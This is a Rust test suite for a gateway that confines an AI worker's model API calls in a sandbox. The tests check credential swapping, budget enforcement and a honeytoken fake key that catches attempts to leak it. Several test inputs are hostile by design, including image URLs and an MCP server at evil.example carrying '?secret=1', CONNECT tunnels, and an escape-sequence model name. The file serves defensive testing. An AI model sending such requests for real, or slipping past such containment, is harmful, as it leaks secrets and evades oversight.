//! The gateway against the real scripted upstream, over real sockets: a Unix socket on the
//! worker's side and loopback TCP on the provider's side. Requests are written by hand so that
//! the hostile shapes (CONNECT, absolute-form, lying lengths) can be sent exactly.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::sync::Mutex;
use std::time::Duration;

use golem_test_upstream::{Reply, Upstream as Scripted};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UnixStream;

use super::*;
use crate::units::{Limit, Size};

const KEY: &str = "sk-host-secret-0123456789";

struct Fixture {
    upstream: Scripted,
    gateway: GatewayHandle,
    events: Arc<Mutex<Vec<Event>>>,
    token: String,
    _dir: tempfile::TempDir,
}

fn policy() -> ModelPolicy {
    ModelPolicy {
        allow: vec![HOST_MODEL.into(), "extra-model".into()],
        max_requests: 10,
        max_input_tokens: 100_000,
        max_output_tokens: 10_000,
        max_concurrent: 2,
        request_timeout: Limit(Duration::from_secs(10)),
        max_request_bytes: Size(4096),
    }
}

async fn fixture(api: ModelApi, policy: &ModelPolicy, script: Vec<Reply>) -> Fixture {
    fixture_in_batch(api, policy, script, None).await
}

/// A gateway whose session also reserves from the batch's shared `batch` budget.
async fn fixture_in_batch(
    api: ModelApi,
    policy: &ModelPolicy,
    script: Vec<Reply>,
    batch: Option<Arc<BatchBudget>>,
) -> Fixture {
    let upstream = Scripted::start(script).await.unwrap();
    let key = ModelKey::new(KEY).unwrap();
    let host = Upstream::new(api, &upstream.base_url(), key, Some("host-model".into())).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let events = Arc::new(Mutex::new(Vec::new()));
    let sink_events = events.clone();
    let sink: EventSink = Arc::new(move |e| sink_events.lock().unwrap().push(e));
    let token = honeytoken(api);
    let spec = GatewaySpec {
        socket_dir: dir.path().join("model"),
        transcript: dir.path().join("transcript.jsonl"),
        // SAFETY: getuid/getgid have no preconditions.
        uid: unsafe { libc::getuid() },
        gid: unsafe { libc::getgid() },
        policy,
        upstream: Arc::new(host),
        honeytoken: Some(token.clone()),
        session_id: "s1".into(),
        batch_budget: batch,
    };
    let gateway = start(spec, sink).unwrap();
    Fixture {
        upstream,
        gateway,
        events,
        token,
        _dir: dir,
    }
}

/// Sends `head` (request line and headers, without the blank line) and `body`, and returns
/// the status and the parsed JSON body.
async fn send(f: &Fixture, head: &str, body: &[u8]) -> (u16, Value) {
    let mut s = UnixStream::connect(f.gateway.socket_path()).await.unwrap();
    let request = format!("{head}\r\nHost: localhost\r\nConnection: close\r\n\r\n");
    s.write_all(request.as_bytes()).await.unwrap();
    // The gateway may answer (413) and close before the whole body is written.
    let _ = s.write_all(body).await;
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out).await;
    let text = String::from_utf8_lossy(&out);
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let body = text.split_once("\r\n\r\n").map_or("", |(_, b)| b);
    (status, serde_json::from_str(body).unwrap_or(Value::Null))
}

async fn post(f: &Fixture, path: &str, headers: &str, body: &Value) -> (u16, Value) {
    let body = body.to_string();
    let head = format!(
        "POST {path} HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: {}{headers}",
        body.len()
    );
    send(f, &head, body.as_bytes()).await
}

fn ask(model: &str, max_tokens: u64) -> Value {
    json!({"model": model, "max_tokens": max_tokens,
        "messages": [{"role": "user", "content": "Summarise the document."}]})
}

fn events_named(f: &Fixture, name: &str) -> Vec<Value> {
    let events = f.events.lock().unwrap();
    events
        .iter()
        .filter(|e| e.event == name)
        .map(|e| e.data.clone())
        .collect()
}

#[tokio::test]
async fn forwards_with_the_host_key_and_never_the_workers_credentials() {
    let script = vec![Reply::text("three bullets").usage(120, 30)];
    let f = fixture(ModelApi::Anthropic, &policy(), script).await;
    let headers = "\r\nAuthorization: Bearer worker-own\r\nx-api-key: worker-key\r\nCookie: a=b\r\nProxy-Authorization: Basic eA==\r\nanthropic-version: 2023-06-01\r\nanthropic-beta: tools-2024\r\nx-custom: 1\r\nTE: trailers";
    let (status, body) = post(&f, "/v1/messages", headers, &ask("host-model", 100)).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["content"][0]["text"], "three bullets");
    let reqs = f.upstream.requests();
    assert_eq!(reqs.len(), 1);
    let r = &reqs[0];
    assert_eq!(r.path, "/v1/messages");
    assert_eq!(r.header("x-api-key"), Some(KEY));
    assert_eq!(r.header("anthropic-version"), Some("2023-06-01"));
    assert_eq!(r.header("anthropic-beta"), Some("tools-2024"));
    for dropped in [
        "authorization",
        "cookie",
        "proxy-authorization",
        "x-custom",
        "te",
    ] {
        assert_eq!(r.header(dropped), None, "{dropped} reached the upstream");
    }
    assert_eq!(r.json()["model"], "host-model");
    let report = f.gateway.shutdown().await;
    assert_eq!(
        (report.requests, report.input_tokens, report.output_tokens),
        (1, 120, 30)
    );
    assert_eq!((report.refused, report.honeytoken_seen), (0, false));
}

#[tokio::test]
async fn openai_gets_a_bearer_key_and_settles_on_prompt_and_completion_tokens() {
    let script = vec![Reply::tool("read_file", json!({"path": "/input/a"})).usage(40, 9)];
    let f = fixture(ModelApi::Openai, &policy(), script).await;
    let mut body = ask("extra-model", 1);
    body["max_completion_tokens"] = json!(50);
    let headers = "\r\nAuthorization: Bearer worker-own";
    let (status, answer) = post(&f, "/v1/chat/completions", headers, &body).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["choices"][0]["finish_reason"], "tool_calls");
    let r = &f.upstream.requests()[0];
    assert_eq!(
        r.header("authorization"),
        Some(format!("Bearer {KEY}").as_str())
    );
    assert_eq!(r.header("anthropic-version"), None);
    let mut search = ask("extra-model", 5);
    search["web_search_options"] = json!({});
    let (status, _) = post(&f, "/v1/chat/completions", "", &search).await;
    assert_eq!(status, 403);
    let mut image = ask("extra-model", 5);
    image["messages"][0]["content"] = json!([{"type": "image_url",
        "image_url": {"url": "https://evil.example/?secret=1"}}]);
    let (status, _) = post(&f, "/v1/chat/completions", "", &image).await;
    assert_eq!(status, 403);
    let mut tools = ask("extra-model", 5);
    tools["tools"] = json!([{"type": "function", "function": {"name": "read_file"}}]);
    f.upstream.push(Reply::text("ok").usage(1, 1));
    let (status, _) = post(&f, "/v1/chat/completions", "", &tools).await;
    assert_eq!(status, 200);
    // The Anthropic path is not served by an OpenAI gateway.
    let (status, _) = post(&f, "/v1/messages", "", &ask("extra-model", 5)).await;
    assert_eq!(status, 404);
    let report = f.gateway.shutdown().await;
    assert_eq!(
        (report.requests, report.input_tokens, report.output_tokens),
        (2, 41, 10)
    );
    assert_eq!(report.refused, 3);
}

#[tokio::test]
async fn hostile_bodies_are_refused_recorded_and_never_forwarded() {
    let mut p = policy();
    p.max_output_tokens = 500;
    let f = fixture(ModelApi::Anthropic, &p, vec![]).await;
    let big = json!({"model": "host-model", "max_tokens": 5, "pad": "x".repeat(5000)});
    let cases: Vec<(&str, Value, u16)> = vec![
        ("/v1/messages", ask("gpt-evil", 10), 403),
        ("/v1/messages", ask("\u{1b}[2Jx", 10), 403),
        (
            "/v1/messages",
            json!({"model": "host-model", "max_tokens": 5, "stream": true}),
            400,
        ),
        ("/v1/messages", json!({"model": "host-model"}), 400),
        ("/v1/messages", json!({"max_tokens": 5}), 400),
        ("/v1/messages", ask("host-model", 501), 429),
        (
            "/v1/messages",
            json!({"model": "host-model", "max_tokens": 5, "messages": [],
                "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
            403,
        ),
        (
            "/v1/messages",
            json!({"model": "host-model", "max_tokens": 5, "messages": [],
                "mcp_servers": [{"type": "url", "url": "https://evil.example/mcp"}]}),
            403,
        ),
        (
            "/v1/messages",
            json!({"model": "host-model", "max_tokens": 5, "messages": [{"role": "user",
                "content": [{"type": "image", "source": {"type": "url",
                    "url": "https://evil.example/?secret=1"}}]}]}),
            403,
        ),
        ("/v1/messages", big, 413),
        ("/v1/other", ask("host-model", 5), 404),
        ("/v1/messages/../x", ask("host-model", 5), 404),
    ];
    for (path, body, want) in &cases {
        let (status, answer) = post(&f, path, "", body).await;
        assert_eq!(status, *want, "{path} {body:.80}: {answer}");
        assert!(answer["error"]["message"].is_string(), "{answer}");
    }
    assert_eq!(
        f.upstream.count(),
        0,
        "nothing refused reaches the upstream"
    );
    let refused = events_named(&f, "model.refused");
    assert_eq!(refused.len(), cases.len());
    // A hostile model name is never echoed into the records.
    assert!(refused.iter().all(|e| !e.to_string().contains("[2J")));
    assert!(refused.iter().any(|e| e["model"] == "gpt-evil"));
    let report = f.gateway.shutdown().await;
    assert_eq!(report.refused, cases.len() as u64);
    assert_eq!(report.requests, 0);
}

#[tokio::test]
async fn proxy_shapes_other_methods_and_a_chunked_oversize_body_are_refused() {
    let f = fixture(ModelApi::Anthropic, &policy(), vec![]).await;
    let raw: [(&str, &[u8], u16); 4] = [
        ("CONNECT api.anthropic.com:443 HTTP/1.1", b"", 405),
        (
            "POST http://api.anthropic.com/v1/messages HTTP/1.1\r\nContent-Length: 2",
            b"{}",
            400,
        ),
        ("GET /v1/messages HTTP/1.1", b"", 405),
        // No Content-Length: the cap is enforced while the chunks arrive.
        (
            "POST /v1/messages HTTP/1.1\r\nTransfer-Encoding: chunked",
            b"",
            413,
        ),
    ];
    for (head, body, want) in raw {
        let chunked;
        let body = if head.contains("chunked") {
            let chunk = "y".repeat(3000);
            chunked = format!("bb8\r\n{chunk}\r\nbb8\r\n{chunk}\r\n0\r\n\r\n");
            chunked.as_bytes()
        } else {
            body
        };
        let (status, answer) = send(&f, head, body).await;
        assert_eq!(status, want, "{head}: {answer}");
    }
    assert_eq!(
        f.upstream.count(),
        0,
        "nothing refused reaches the upstream"
    );
    let refused = events_named(&f, "model.refused");
    assert_eq!(refused.len(), raw.len());
    assert!(refused.iter().any(|e| e["refused"] == "connect"));
    assert!(refused.iter().any(|e| e["refused"] == "absolute_form"));
    assert!(refused.iter().any(|e| e["refused"] == "too_large"));
    assert_eq!(f.gateway.shutdown().await.refused, raw.len() as u64);
}

#[tokio::test]
async fn a_burst_of_twenty_forwards_exactly_the_budget_and_the_counts_add_up() {
    let mut p = policy();
    p.max_requests = 5;
    p.max_concurrent = 3;
    let f = Arc::new(fixture(ModelApi::Openai, &p, vec![]).await);
    f.upstream.set_fallback(
        Reply::text("ok")
            .usage(11, 7)
            .delayed(Duration::from_millis(20)),
    );
    let burst = (0..20).map(|_| {
        let f = f.clone();
        tokio::spawn(async move {
            post(&f, "/v1/chat/completions", "", &ask("host-model", 10))
                .await
                .0
        })
    });
    let statuses: Vec<u16> = futures_util::future::join_all(burst)
        .await
        .into_iter()
        .map(Result::unwrap)
        .collect();
    assert_eq!(
        statuses.iter().filter(|s| **s == 200).count(),
        5,
        "{statuses:?}"
    );
    assert_eq!(
        statuses.iter().filter(|s| **s == 429).count(),
        15,
        "{statuses:?}"
    );
    assert_eq!(f.upstream.count(), 5);
    let Ok(f) = Arc::try_unwrap(f) else {
        panic!("fixture still shared")
    };
    let forwarded = events_named(&f, "model.request");
    assert_eq!(forwarded.len(), 5);
    let report = f.gateway.shutdown().await;
    assert_eq!(
        (report.requests, report.input_tokens, report.output_tokens),
        (5, 55, 35)
    );
    assert_eq!(report.refused, 15);
    let lines = std::fs::read_to_string(&report.transcript_path).unwrap();
    assert_eq!(lines.lines().count(), 20);
}

/// What one `ask(model, 10)` reserves of a batch budget: its estimated input and max_tokens.
fn batch_tokens_of_one_ask() -> u64 {
    budget::estimate_input_tokens(ask("host-model", 10).to_string().len()) + 10
}

#[tokio::test]
async fn gateways_sharing_a_batch_budget_forward_exactly_what_it_covers_under_a_burst() {
    let per = batch_tokens_of_one_ask();
    // Five requests fit; the sixth is one token short.
    let cap = 6 * per - 1;
    let batch = Arc::new(BatchBudget::new(cap, 0));
    let mut p = policy();
    p.max_requests = 20;
    p.max_concurrent = 10;
    let mut gateways = Vec::new();
    for _ in 0..2 {
        let f = fixture_in_batch(ModelApi::Openai, &p, vec![], Some(batch.clone())).await;
        // The provider charges exactly what was reserved, so the count does not depend on
        // how the requests interleave: at most what the batch covers is ever forwarded.
        f.upstream.set_fallback(
            Reply::text("ok")
                .usage(per - 10, 10)
                .delayed(Duration::from_millis(20)),
        );
        gateways.push(Arc::new(f));
    }
    let burst = (0..20).map(|i| {
        let f = gateways[i % 2].clone();
        tokio::spawn(
            async move { post(&f, "/v1/chat/completions", "", &ask("host-model", 10)).await },
        )
    });
    let answers: Vec<(u16, Value)> = futures_util::future::join_all(burst)
        .await
        .into_iter()
        .map(Result::unwrap)
        .collect();
    let ok = answers.iter().filter(|(s, _)| *s == 200).count();
    assert_eq!(ok, 5, "{answers:?}");
    for (_, body) in answers.iter().filter(|(s, _)| *s != 200) {
        assert_eq!(body["error"]["type"], "budget", "{body}");
        let message = body["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("the batch's model budget"), "{message}");
    }
    let forwarded: usize = gateways.iter().map(|f| f.upstream.count()).sum();
    assert_eq!(forwarded, 5);
    assert_eq!(batch.spent(), 5 * per);
    assert_eq!(batch.left(), per - 1);
    let mut spent = 0;
    for f in gateways {
        let Ok(f) = Arc::try_unwrap(f) else {
            panic!("fixture still shared")
        };
        let report = f.gateway.shutdown().await;
        spent += report.input_tokens + report.output_tokens;
    }
    // What the sessions report adds up to what the batch was charged.
    assert_eq!(spent, 5 * per);
}

#[tokio::test]
async fn settling_on_reported_usage_frees_the_rest_of_the_batch_budget() {
    let per = batch_tokens_of_one_ask();
    // Room for one reservation, not two; a small reported usage leaves room for the next.
    let cap = 2 * per - 1;
    let batch = Arc::new(BatchBudget::new(cap, 0));
    let first = fixture_in_batch(ModelApi::Anthropic, &policy(), vec![], Some(batch.clone())).await;
    let second =
        fixture_in_batch(ModelApi::Anthropic, &policy(), vec![], Some(batch.clone())).await;
    first.upstream.set_fallback(Reply::text("a").usage(5, 3));
    second.upstream.set_fallback(Reply::text("b").usage(6, 4));
    let (status, body) = post(&first, "/v1/messages", "", &ask("host-model", 10)).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(batch.spent(), 8);
    assert_eq!(batch.left(), cap - 8);
    let (status, body) = post(&second, "/v1/messages", "", &ask("host-model", 10)).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(batch.spent(), 18);
    // /golem/info tells the worker what the batch has left.
    let (status, info) = send(&second, "GET /golem/info HTTP/1.1", b"").await;
    assert_eq!(status, 200);
    assert_eq!(info["batch_tokens_left"], cap - 18);
    first.gateway.shutdown().await;
    second.gateway.shutdown().await;
}

#[tokio::test]
async fn a_hanging_upstream_is_cut_at_the_request_timeout() {
    let mut p = policy();
    p.request_timeout = Limit(Duration::from_millis(300));
    let f = fixture(ModelApi::Anthropic, &p, vec![Reply::hang()]).await;
    let started = std::time::Instant::now();
    let (status, answer) = post(&f, "/v1/messages", "", &ask("host-model", 10)).await;
    assert_eq!(status, 504, "{answer}");
    assert!(started.elapsed() < Duration::from_secs(5));
    let slow = Reply::text("late").delayed(Duration::from_secs(3));
    f.upstream.push(slow);
    let (status, _) = post(&f, "/v1/messages", "", &ask("host-model", 10)).await;
    assert_eq!(status, 504);
    let report = f.gateway.shutdown().await;
    // Two forwarded, no usage reported: the reservations (10 output tokens each) are charged.
    assert_eq!((report.requests, report.output_tokens), (2, 20));
}

#[tokio::test]
async fn an_answer_carrying_the_key_is_withheld_from_the_worker_and_the_records() {
    let echo = Reply::error(401, &format!("invalid x-api-key: {KEY}"));
    let f = fixture(ModelApi::Anthropic, &policy(), vec![echo]).await;
    let (status, answer) = post(&f, "/v1/messages", "", &ask("host-model", 10)).await;
    assert_eq!(status, 502, "{answer}");
    assert!(!answer.to_string().contains(KEY), "{answer}");
    assert_eq!(f.upstream.count(), 1);
    let (status, _) = post(&f, "/v1/messages", "", &ask("host-model", 10)).await;
    assert_eq!(status, 200, "an honest answer still passes");
    let events = format!("{:?}", f.events.lock().unwrap());
    let report = f.gateway.shutdown().await;
    let transcript = std::fs::read_to_string(&report.transcript_path).unwrap();
    assert!(!transcript.contains(KEY) && !events.contains(KEY));
}

#[tokio::test]
async fn the_honeytoken_is_caught_flagged_and_never_forwarded() {
    let f = fixture(ModelApi::Anthropic, &policy(), vec![]).await;
    assert!(f.token.starts_with("sk-ant-api03-") && f.token.ends_with("AA"));
    let mut body = ask("host-model", 10);
    body["messages"][0]["content"] = json!(format!("env: ANTHROPIC_API_KEY={}", f.token));
    let (status, _) = post(&f, "/v1/messages", "", &body).await;
    assert_eq!(status, 403);
    // JSON escapes do not hide it.
    let escaped = ask("host-model", 10)
        .to_string()
        .replace("Summarise", &format!("\\u0073{}", &f.token[1..]));
    let head = format!(
        "POST /v1/messages HTTP/1.1\r\nContent-Length: {}",
        escaped.len()
    );
    let (status, _) = send(&f, &head, escaped.as_bytes()).await;
    assert_eq!(status, 403);
    // The same fake key as the worker's own auth header is expected from an SDK: dropped, not flagged.
    let header = format!("\r\nx-api-key: {}", f.token);
    let (status, _) = post(&f, "/v1/messages", &header, &ask("host-model", 10)).await;
    assert_eq!(status, 200);
    assert_eq!(f.upstream.count(), 1);
    assert_eq!(f.upstream.requests()[0].header("x-api-key"), Some(KEY));
    assert_eq!(events_named(&f, "model.honeytoken").len(), 2);
    let report = f.gateway.shutdown().await;
    assert!(report.honeytoken_seen);
    assert_eq!(report.refused, 2);
}

#[tokio::test]
async fn info_socket_and_records_hold_what_they_should_and_never_the_key() {
    let f = fixture(
        ModelApi::Anthropic,
        &policy(),
        vec![Reply::text("hi").usage(3, 2)],
    )
    .await;
    let (status, _) = send(&f, "GET http://evil/golem/info HTTP/1.1", b"").await;
    assert_eq!(status, 400);
    let (status, info) = send(&f, "GET /golem/info HTTP/1.1", b"").await;
    assert_eq!(status, 200);
    assert_eq!(info["api"], "anthropic");
    assert_eq!(info["models"], json!(["host-model", "extra-model"]));
    assert_eq!(info["budget_left"]["requests"], 10);
    let socket = f.gateway.socket_path().to_path_buf();
    let meta = std::fs::symlink_metadata(&socket).unwrap();
    assert_eq!(meta.mode() & 0o777, 0o600);
    let dir_mode = std::fs::metadata(socket.parent().unwrap())
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(dir_mode & 0o777, 0o700);
    let (status, _) = post(&f, "/v1/messages", "", &ask("host-model", 10)).await;
    assert_eq!(status, 200);
    let events = f.events.lock().unwrap().clone();
    let request = events_named(&f, "model.request");
    let report = f.gateway.shutdown().await;
    assert!(!socket.exists(), "the socket is removed at shutdown");
    let transcript = std::fs::read_to_string(&report.transcript_path).unwrap();
    let lines: Vec<Value> = transcript
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2, "the refused GET and the forwarded POST");
    assert_eq!(lines[0]["refused"], "absolute_form");
    let line = &lines[1];
    assert_eq!(line["request"]["model"], "host-model");
    assert_eq!(line["response"]["content"][0]["text"], "hi");
    assert_eq!(request[0]["request_sha256"], line["request_sha256"]);
    assert_eq!(request[0]["input_tokens"], 3);
    assert_eq!(request[0]["model"], "host-model");
    let in_events = format!("{events:?}");
    assert!(!transcript.contains(KEY) && !in_events.contains(KEY));
    assert!(!format!("{report:?}").contains(KEY));
}

#[tokio::test]
async fn start_refuses_a_reused_directory_and_a_policy_without_a_model() {
    let upstream = Arc::new(
        Upstream::new(
            ModelApi::Openai,
            "http://127.0.0.1:9",
            ModelKey::new(KEY).unwrap(),
            None,
        )
        .unwrap(),
    );
    let dir = tempfile::tempdir().unwrap();
    let sink: EventSink = Arc::new(|_| {});
    let p = policy();
    let spec = |socket_dir: PathBuf, policy| GatewaySpec {
        socket_dir,
        transcript: dir.path().join("t.jsonl"),
        uid: 1,
        gid: 1,
        policy,
        upstream: upstream.clone(),
        honeytoken: None,
        session_id: "s".into(),
        batch_budget: None,
    };
    // `host` without GOLEM_MODEL leaves only the named model.
    assert_eq!(
        resolve_allowlist(&p, &upstream),
        vec!["extra-model".to_string()]
    );
    let host_only = ModelPolicy {
        allow: vec![HOST_MODEL.into()],
        ..policy()
    };
    let err = start(spec(dir.path().join("a"), &host_only), sink.clone()).unwrap_err();
    assert!(matches!(err, GatewayError::NoModel { .. }), "{err}");
    // An existing directory (or a link planted there) is never reused.
    std::os::unix::fs::symlink("/tmp", dir.path().join("b")).unwrap();
    let err = start(spec(dir.path().join("b"), &p), sink).unwrap_err();
    assert!(matches!(err, GatewayError::Io { .. }), "{err}");
}

#[test]
fn honeytokens_look_real_and_differ() {
    let a = honeytoken(ModelApi::Openai);
    let b = honeytoken(ModelApi::Openai);
    assert!(a.starts_with("sk-proj-") && a.len() == 8 + 156 && a != b);
    let c = honeytoken(ModelApi::Anthropic);
    assert_eq!(c.len(), "sk-ant-api03-".len() + 93 + 2);
    assert!(c
        .bytes()
        .all(|x| x.is_ascii_alphanumeric() || x == b'-' || x == b'_'));
}

#[tokio::test]
async fn the_socket_belongs_to_the_session_uid_alone() {
    let dir = tempfile::tempdir().unwrap();
    let (uid, gid) = (0x6000_1234, 0x6000_1234);
    let (_listener, socket) = bind_socket(&dir.path().join("m"), uid, gid).unwrap();
    let meta = std::fs::symlink_metadata(&socket).unwrap();
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        assert_eq!(
            (meta.uid(), meta.gid(), meta.mode() & 0o777),
            (uid, gid, 0o600)
        );
    } else {
        // Unprivileged: the 0700 directory is the guard (see bind_socket).
        assert_eq!(meta.mode() & 0o777, 0o666);
    }
    let dir_meta = std::fs::metadata(dir.path().join("m")).unwrap();
    assert_eq!(dir_meta.mode() & 0o777, 0o700);
}

#[tokio::test]
async fn a_trickled_body_is_cut_and_a_dropped_handle_stops_serving() {
    let mut p = policy();
    p.request_timeout = Limit(Duration::from_millis(300));
    let f = fixture(ModelApi::Anthropic, &p, vec![]).await;
    let head = "POST /v1/messages HTTP/1.1\r\nContent-Length: 100";
    let (status, answer) = send(&f, head, b"{\"model\":").await;
    assert_eq!(status, 400, "{answer}");
    assert_eq!(f.upstream.count(), 0);
    let socket = f.gateway.socket_path().to_path_buf();
    drop(f.gateway);
    let mut refused = false;
    for _ in 0..50 {
        if UnixStream::connect(&socket).await.is_err() {
            refused = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(refused, "a dropped gateway still accepts connections");
}

#[tokio::test]
async fn each_socket_is_its_own_session() {
    let a = fixture(ModelApi::Openai, &policy(), vec![]).await;
    let b = fixture(ModelApi::Openai, &policy(), vec![]).await;
    // Whatever the body claims, the request is charged to the socket it arrived on.
    let mut body = ask("host-model", 10);
    body["session"] = json!("s2");
    body["metadata"] = json!({"user_id": "s2"});
    let (status, _) = post(&a, "/v1/chat/completions", "\r\nX-Golem-Session: s2", &body).await;
    assert_eq!(status, 200);
    assert_eq!(events_named(&a, "model.request").len(), 1);
    assert!(events_named(&b, "model.request").is_empty());
    let (ra, rb) = (a.gateway.shutdown().await, b.gateway.shutdown().await);
    assert_eq!((ra.requests, rb.requests), (1, 0));
    assert_eq!(b.upstream.count(), 0);
}

#[tokio::test]
async fn shutdown_closes_idle_keep_alive_connections_at_once() {
    let f = fixture(ModelApi::Openai, &policy(), vec![]).await;
    let mut idle = UnixStream::connect(f.gateway.socket_path()).await.unwrap();
    idle.write_all(b"GET /golem/info HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let mut buf = [0u8; 1024];
    assert!(idle.read(&mut buf).await.unwrap() > 0);
    let started = std::time::Instant::now();
    f.gateway.shutdown().await;
    assert!(
        started.elapsed() < Duration::from_secs(1),
        "{:?}",
        started.elapsed()
    );
    // The idle connection was closed by the gateway.
    assert_eq!(idle.read(&mut buf).await.unwrap_or(0), 0);
}

#[tokio::test]
async fn a_flood_of_refused_requests_is_counted_but_recorded_only_up_to_a_cap() {
    let f = fixture(ModelApi::Anthropic, &policy(), vec![]).await;
    let flood = server::MAX_RECORDED_REFUSALS + 40;
    for _ in 0..flood {
        let (status, _) = post(&f, "/v1/messages", "", &ask("gpt-evil", 10)).await;
        assert_eq!(status, 403);
    }
    // The first honeytoken sightings are still recorded past the cap; a flood of them is not.
    let carrying = json!({"model": "host-model", "max_tokens": 5,
        "messages": [{"role": "user", "content": f.token.clone()}]});
    let sightings = server::MAX_RECORDED_HONEYTOKENS + 5;
    for _ in 0..sightings {
        let (status, _) = post(&f, "/v1/messages", "", &carrying).await;
        assert_eq!(status, 403);
    }
    let kept = server::MAX_RECORDED_HONEYTOKENS;
    let refused = events_named(&f, "model.refused");
    assert_eq!(
        refused.len() as u64,
        server::MAX_RECORDED_REFUSALS + kept,
        "recorded up to the cap, plus the first honeytoken sightings"
    );
    assert_eq!(events_named(&f, "model.refusals_capped").len(), 1);
    assert_eq!(events_named(&f, "model.honeytoken").len() as u64, kept);
    let report = f.gateway.shutdown().await;
    assert!(report.honeytoken_seen);
    assert_eq!(
        report.refused,
        flood + sightings,
        "every refusal is counted"
    );
    assert_eq!(
        report.transcript_incomplete,
        (flood - server::MAX_RECORDED_REFUSALS) + (sightings - kept),
        "the exchanges left out of the transcript are counted for the manifest"
    );
    let text = std::fs::read_to_string(&report.transcript_path).unwrap();
    let lines = text.lines().count() as u64;
    assert_eq!(lines, server::MAX_RECORDED_REFUSALS + kept);
}
